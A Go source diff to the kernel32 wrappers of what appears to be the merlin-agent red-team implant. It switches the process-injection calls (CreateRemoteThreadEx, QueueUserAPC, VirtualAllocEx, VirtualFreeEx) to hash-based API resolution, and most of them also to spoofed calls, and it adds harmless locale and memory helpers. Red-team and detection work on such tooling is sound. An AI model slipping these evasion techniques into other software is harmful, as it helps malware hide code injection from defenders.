@@ -25,9 +25,14 @@ package kernel32
 import (
 	// Standard
 	"fmt"
+	"unsafe"
 
 	// X Packages
 	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/resolve"
+	"github.com/Ne0nd0g/merlin-agent/v2/spoof"
 )
 
 var kernel32 = windows.NewLazySystemDLL("kernel32.dll")
@@ -48,8 +53,8 @@ var kernel32 = windows.NewLazySystemDLL("kernel32.dll")
 // );
 // https://learn.microsoft.com/en-us/windows/win32/api/processthreadsapi/nf-processthreadsapi-createremotethreadex
 func CreateRemoteThreadEx(hProcess uintptr, lpThreadAttributes uintptr, dwStackSize uintptr, lpStartAddress uintptr, lpParameter uintptr, dwCreationFlags int, lpAttributeList uintptr, lpThreadId uintptr) (addr uintptr, err error) {
-	createRemoteThreadEx := kernel32.NewProc("CreateRemoteThreadEx")
-	addr, _, err = createRemoteThreadEx.Call(hProcess, lpThreadAttributes, dwStackSize, lpStartAddress, lpParameter, uintptr(dwCreationFlags), lpAttributeList, lpThreadId)
+	createRemoteThreadEx := resolve.NewProc(kernel32, 0xf0b363af) // CreateRemoteThreadEx
+	addr, _, err = spoof.Call(createRemoteThreadEx, hProcess, lpThreadAttributes, dwStackSize, lpStartAddress, lpParameter, uintptr(dwCreationFlags), lpAttributeList, lpThreadId)
 	if err != windows.Errno(0) {
 		err = fmt.Errorf("there was an error calling Windows API CreateRemoteThread: %s", err)
 	} else {
@@ -58,6 +63,97 @@ func CreateRemoteThreadEx(hProcess uintptr, lpThreadAttributes uintptr, dwStackS
 	return
 }
 
+// GetOEMCP Returns the current original equipment manufacturer (OEM) code page identifier for the operating system.
+// Console applications, such as cmd.exe, write their output using the OEM code page
+// UINT GetOEMCP();
+// https://learn.microsoft.com/en-us/windows/win32/api/winnls/nf-winnls-getoemcp
+func GetOEMCP() uint32 {
+	getOEMCP := kernel32.NewProc("GetOEMCP")
+	cp, _, _ := getOEMCP.Call()
+	return uint32(cp)
+}
+
+// GetUserDefaultLocaleName Retrieves the user default locale name (e.g., en-US)
+// int GetUserDefaultLocaleName(
+//
+//	[out] LPWSTR lpLocaleName,
+//	[in]  int    cchLocaleName
+//
+// );
+// https://learn.microsoft.com/en-us/windows/win32/api/winnls/nf-winnls-getuserdefaultlocalename
+func GetUserDefaultLocaleName() (locale string, err error) {
+	getUserDefaultLocaleName := kernel32.NewProc("GetUserDefaultLocaleName")
+	// LOCALE_NAME_MAX_LENGTH
+	buffer := make([]uint16, 85)
+	ret, _, err := getUserDefaultLocaleName.Call(uintptr(unsafe.Pointer(&buffer[0])), uintptr(len(buffer)))
+	if ret == 0 {
+		err = fmt.Errorf("there was an error calling kernel32!GetUserDefaultLocaleName: %s", err)
+		return
+	}
+	return windows.UTF16ToString(buffer), nil
+}
+
+// GlobalAlloc Allocates the specified number of bytes from the heap
+// HGLOBAL GlobalAlloc(
+//
+//	[in] UINT   uFlags,
+//	[in] SIZE_T dwBytes
+//
+// );
+// https://learn.microsoft.com/en-us/windows/win32/api/winbase/nf-winbase-globalalloc
+func GlobalAlloc(flags uint32, size uintptr) (hMem windows.Handle, err error) {
+	globalAlloc := kernel32.NewProc("GlobalAlloc")
+	ret, _, err := globalAlloc.Call(uintptr(flags), size)
+	if ret == 0 {
+		err = fmt.Errorf("there was an error calling kernel32!GlobalAlloc: %s", err)
+		return
+	}
+	return windows.Handle(ret), nil
+}
+
+// GlobalFree Frees the specified global memory object and invalidates its handle
+// HGLOBAL GlobalFree(
+//
+//	[in] HGLOBAL hMem
+//
+// );
+// https://learn.microsoft.com/en-us/windows/win32/api/winbase/nf-winbase-globalfree
+func GlobalFree(hMem windows.Handle) {
+	globalFree := kernel32.NewProc("GlobalFree")
+	_, _, _ = globalFree.Call(uintptr(hMem))
+}
+
+// GlobalLock Locks a global memory object and returns a pointer to the first byte of the object's memory block
+// LPVOID GlobalLock(
+//
+//	[in] HGLOBAL hMem
+//
+// );
+// https://learn.microsoft.com/en-us/windows/win32/api/winbase/nf-winbase-globallock
+func GlobalLock(hMem windows.Handle) (addr unsafe.Pointer, err error) {
+	globalLock := kernel32.NewProc("GlobalLock")
+	ret, _, err := globalLock.Call(uintptr(hMem))
+	if ret == 0 {
+		err = fmt.Errorf("there was an error calling kernel32!GlobalLock: %s", err)
+		return
+	}
+	// Convert the address without a uintptr to unsafe.Pointer conversion; the memory isn't managed by Go
+	// #nosec G103 -- the address of the locked memory block is returned by the API
+	return *(*unsafe.Pointer)(unsafe.Pointer(&ret)), nil
+}
+
+// GlobalUnlock Decrements the lock count associated with a memory object that was allocated with GMEM_MOVEABLE
+// BOOL GlobalUnlock(
+//
+//	[in] HGLOBAL hMem
+//
+// );
+// https://learn.microsoft.com/en-us/windows/win32/api/winbase/nf-winbase-globalunlock
+func GlobalUnlock(hMem windows.Handle) {
+	globalUnlock := kernel32.NewProc("GlobalUnlock")
+	_, _, _ = globalUnlock.Call(uintptr(hMem))
+}
+
 // QueueUserAPC Adds a user-mode asynchronous procedure call (APC) object to the APC queue of the specified thread.
 // DWORD QueueUserAPC(
 //
@@ -68,8 +164,8 @@ func CreateRemoteThreadEx(hProcess uintptr, lpThreadAttributes uintptr, dwStackS
 // );
 // https://learn.microsoft.com/en-us/windows/win32/api/processthreadsapi/nf-processthreadsapi-queueuserapc
 func QueueUserAPC(pfnAPC uintptr, hThread uintptr, dwData uintptr) (err error) {
-	queueUserAPC := kernel32.NewProc("QueueUserAPC")
-	_, _, err = queueUserAPC.Call(pfnAPC, hThread, dwData)
+	queueUserAPC := resolve.NewProc(kernel32, 0x5c4f180e) // QueueUserAPC
+	_, _, err = spoof.Call(queueUserAPC, pfnAPC, hThread, dwData)
 	if err != windows.Errno(0) {
 		err = fmt.Errorf("there was an error calling Windows API QueueUserAPC: %s", err)
 	} else {
@@ -91,8 +187,8 @@ func QueueUserAPC(pfnAPC uintptr, hThread uintptr, dwData uintptr) (err error) {
 //
 // https://learn.microsoft.com/en-us/windows/win32/api/memoryapi/nf-memoryapi-virtualallocex
 func VirtualAllocEx(hProcess uintptr, lpAddress uintptr, dwSize int, flAllocationType int, flProtect int) (addr uintptr, err error) {
-	virtualAllocEx := kernel32.NewProc("VirtualAllocEx")
-	addr, _, err = virtualAllocEx.Call(hProcess, lpAddress, uintptr(dwSize), uintptr(flAllocationType), uintptr(flProtect))
+	virtualAllocEx := resolve.NewProc(kernel32, 0xb5753801) // VirtualAllocEx
+	addr, _, err = spoof.Call(virtualAllocEx, hProcess, lpAddress, uintptr(dwSize), uintptr(flAllocationType), uintptr(flProtect))
 	if err != windows.Errno(0) {
 		err = fmt.Errorf("there was an error calling Windows API VirtualAllocEx: %s", err)
 	} else {
@@ -100,3 +196,25 @@ func VirtualAllocEx(hProcess uintptr, lpAddress uintptr, dwSize int, flAllocatio
 	}
 	return
 }
+
+// VirtualFreeEx Releases, decommits, or releases and decommits a region of memory within the virtual address space of a
+// specified process.
+//
+//	BOOL VirtualFreeEx(
+//	  [in] HANDLE hProcess,
+//	  [in] LPVOID lpAddress,
+//	  [in] SIZE_T dwSize,
+//	  [in] DWORD  dwFreeType
+//	);
+//
+// https://learn.microsoft.com/en-us/windows/win32/api/memoryapi/nf-memoryapi-virtualfreeex
+func VirtualFreeEx(hProcess uintptr, lpAddress uintptr, dwSize int, dwFreeType int) (err error) {
+	virtualFreeEx := resolve.NewProc(kernel32, 0x9df61270) // VirtualFreeEx
+	ret, _, err := virtualFreeEx.Call(hProcess, lpAddress, uintptr(dwSize), uintptr(dwFreeType))
+	if ret == 0 {
+		err = fmt.Errorf("there was an error calling Windows API VirtualFreeEx: %s", err)
+	} else {
+		err = nil
+	}
+	return
+}